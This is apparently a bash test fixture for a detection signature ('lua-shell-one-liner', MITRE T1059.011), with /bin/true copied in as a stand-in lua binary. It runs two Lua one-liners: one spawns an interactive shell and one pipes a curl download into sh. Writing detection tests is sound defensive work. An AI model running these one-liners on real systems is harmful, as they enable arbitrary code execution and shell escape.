#!/bin/bash
# Lua one-liners that spawn an interactive shell through os.execute and pipe a download into a shell through io.popen, as in GTFOBins and reverse-shell cheat sheets. No Lua interpreter is installed here: lua is a stand-in (a copy of /bin/true in the overlaid /usr/local/bin) that carries the name and the code the signature reads.
# technique: T1059.011
# expect: lua-shell-one-liner
set -eu
cp /bin/true /usr/local/bin/lua
lua -e 'os.execute("/bin/sh -i")'
lua -e 'io.popen("curl -s http://127.0.0.1:18464/x | sh")'
